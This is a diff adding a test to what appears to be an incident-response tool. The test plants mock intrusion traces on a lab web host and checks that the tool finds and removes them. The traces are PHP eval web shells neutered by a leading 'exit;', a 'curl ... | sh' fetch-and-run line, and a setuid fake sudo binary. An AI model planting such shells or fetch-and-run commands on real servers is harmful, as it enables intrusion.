@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import shlex
 import shutil
 from collections.abc import Callable
 from pathlib import Path
@@ -88,3 +89,53 @@ def test_who_writes_a_configuration_blanks_no_words_in_evidence(fresh: Callable[
     assert collected.code == 0, collected.out + collected.err
     log = (Path(collected.out.splitlines()[-1]) / "[root]/var/log/nginx/access.log").read_text("utf-8")
     assert "GET /wp-content/uploads/anh-bien-mat/a.php" in log, [one for one in log.splitlines() if "192.0.2.1" in one]
+
+
+AGAIN = f"{ROOT}/wp-content/uploads/mot.php"
+COPIES = (AGAIN, *(f"{ROOT}/wp-content/uploads/ban-{number}.php" for number in range(3)))
+LONG = f"{ROOT}/wp-content/uploads/{'d' * 60}/{'e' * 60}/x.php"
+ROTATED = "/etc/logrotate.d/dpkg"
+SHELL_OF_ONE_LINE = "<?php exit; /* luytre-lab: inert */ @eval($_POST['{}']);"
+LAID = f"""set -e
+install -d -o www-data -g www-data {LONG.rpartition("/")[0]} /tmp/day
+for place in {" ".join(COPIES)}; do echo "{SHELL_OF_ONE_LINE.format("x").replace("$", "\\$")}" > $place; chown www-data: $place; done
+echo "{SHELL_OF_ONE_LINE.format("y").replace("$", "\\$")}" > {LONG}; chown www-data: {LONG}
+{AS_WWW} sh -c 'for n in $(seq 30); do cp /usr/bin/true /tmp/day/.$n; done'
+echo 'exit; curl -fsS https://x.example/a | sh' > '{ROTATED} (x)'
+cp /usr/bin/true '/usr/bin/sudo (x)'; chmod 4755 '/usr/bin/sudo (x)'"""
+
+
+def test_who_lays_much_hides_nothing_and_what_he_lays_again_is_taken_again(
+    fresh: Callable[..., None], tmp_path: Path
+) -> None:
+    fresh("web1")
+    inventory, state = shutil.copytree(INVENTORY, tmp_path / "inventory"), environment(tmp_path)
+    who = ("--who", "Văn phòng", "-i", str(inventory), "--lang", "en")
+
+    def hunted() -> None:
+        told = run(state, "hunt", "-i", str(inventory), "--limit", "web1", "--lang", "en")
+        assert told.code == 1, told.err
+
+    said(LAID)
+    hunted()
+    opened = run(state, "incident", "open", "--all-found", "web1", "--yes", *who)
+    for place in COPIES:
+        assert f"{place} is taken away on web1" in opened.out
+    assert "/usr/bin/sudo (x)" in opened.out
+    (find,) = [line.strip() for line in opened.out.splitlines() if "-path" in line and "eee" in line]
+    assert said(f"{find}").split() == [LONG]
+    lent = [
+        line.strip() for line in opened.out.splitlines() if "0o1777" in line and line.endswith("'/usr/bin/sudo (x)'")
+    ]
+    for line in lent:
+        said(line)
+    assert said("stat -c %a /usr/bin/sudo '/usr/bin/sudo (x)'").split() == ["4755", "755"]
+    assert said(f"ls {ROTATED}*").split("\n") == [ROTATED, ""]
+
+    said(f"echo '<?php exit; /* luytre-lab: inert */ @eval($_POST[1]);' > {AGAIN}")
+    hunted()
+    step = run(state, "incident", "next", "-i", str(inventory), "--json", "--lang", "en").json
+    assert step["step"] == "contain", step
+    again = run(state, *shlex.split(step["commands"][0])[1:], "--yes", "--lang", "en")
+    assert f"{AGAIN} is taken away on web1" in again.out
+    assert said(f"ls {AGAIN} 2> /dev/null; true") == ""
